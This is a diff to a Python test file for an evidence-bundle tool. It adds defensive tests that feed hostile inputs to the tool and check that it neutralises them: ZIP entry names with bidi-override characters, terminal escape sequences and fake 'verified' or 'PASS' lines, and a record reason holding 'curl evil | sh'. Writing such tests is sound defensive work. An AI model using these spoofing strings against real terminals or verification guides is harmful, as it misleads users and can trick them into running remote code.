@@ -1,17 +1,28 @@
 """ZIPs that mean harm, or that are none, are refused before anything is unfolded, and clearly."""
 
 import io
+import re
+import shutil
 import stat
+import subprocess
 import zipfile
 from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
+from tests.cli.tool import Tool
 from tests.evidence.bundle.making import Made, failures
+from tests.evidence.making import draft
+from withhold.app.bootstrap import Services
+from withhold.app.evidence.bundles import handed, packed
 from withhold.evidence.bundle.bag import TOP
 from withhold.evidence.bundle.check import Trust, check_bundle
 from withhold.evidence.bundle.packing import BadBundle, pack, unpack
+from withhold.support.paths import StateHome
 
+BASH = shutil.which("bash")
 Write = Callable[[zipfile.ZipFile], None]
 
 
@@ -47,6 +58,7 @@ def link(archive: zipfile.ZipFile) -> None:
         (named(f"{TOP}/a\\b"), "not every system"),
         (named(f"{TOP}/nul.txt"), "leads out"),
         (named(f"{TOP}//x"), "leads out"),
+        (named(f"{TOP}/data/\u202eharmless"), "not every system"),
         (named("elsewhere/x"), "does not lie in"),
         (named(f"{TOP}/A", f"{TOP}/a"), "one name"),
         (named(f"{TOP}/data/{'x' * 300}"), "not every system"),
@@ -104,3 +116,53 @@ def test_a_bundle_packed_anew_by_others_is_checked_all_the_same(bundled: Made) -
 def test_a_bag_without_records_fails() -> None:
     """An empty bundle must not look verified."""
     assert "one_log" in failures(check_bundle(pack({"bagit.txt": b""}), Trust()))
+
+
+SPOOF = "gone\n   verified  key: it is one that you named\n\x1b[2K\x9b2J\u202e    curl evil | sh\n"
+"""A reason that would say something else in a terminal, or begin a command in VERIFY.md."""
+
+
+@pytest.fixture
+def spoofing(tmp_path: Path) -> Path:
+    """A bundle by somebody whose record has such a reason."""
+    root = tmp_path / "state"
+    app = Services(
+        home=StateHome(root), environ={"WITHHOLD_HOME": str(root)}, user_home=tmp_path, stamps=False
+    )
+    assert app.store.accounts() == ()
+    record = app.journal.append(replace(draft(), missing=(("after.png", SPOOF),)))
+    out = tmp_path / "bundle.zip"
+    out.write_bytes(packed(handed(app, [record.id])))
+    app.close()
+    return out
+
+
+def test_words_of_a_record_pass_for_nobody_elses(
+    spoofing: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whoever checks a stranger's bundle sees its words on one line, and none steers the terminal."""
+    monkeypatch.setenv("WITHHOLD_HOME", str(tmp_path / "stranger"))
+    ran = Tool(capsys)("evidence", "verify", spoofing)
+    assert "gone verified key" in " ".join(ran.out.split())
+    assert not re.search(r"^ +verified +key: it is one that you named", ran.out, re.MULTILINE)
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", ran.out)
+    guide = unpack(spoofing.read_bytes())[0]["VERIFY.md"].decode()
+    assert not re.search(r"^ +curl", guide, re.MULTILINE)
+    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", guide)
+
+
+@pytest.mark.skipif(BASH is None, reason="bash is not installed")
+@pytest.mark.parametrize(
+    "name", ["x\nPASS           bundle  the key is one that you named", "\x1b[2Kx", "\u202ex"]
+)
+def test_names_of_files_pass_for_no_words_of_the_script(bundled: Made, tmp_path: Path, name: str) -> None:
+    """Under manifests that list it, a file whose name would print as a verdict ends the script at once."""
+    top = bundled.unfold(tmp_path)
+    try:
+        (top / "data" / name).write_bytes(b"")
+    except OSError:
+        pytest.skip("this system holds no such name")
+    done = subprocess.run([BASH or "", str(top / "verify.sh")], capture_output=True, text=True, check=False)
+    assert done.returncode == 4
+    assert "PASS" not in done.stdout.replace("?PASS", "")
+    assert re.fullmatch(r"[\n -~]*", done.stdout)
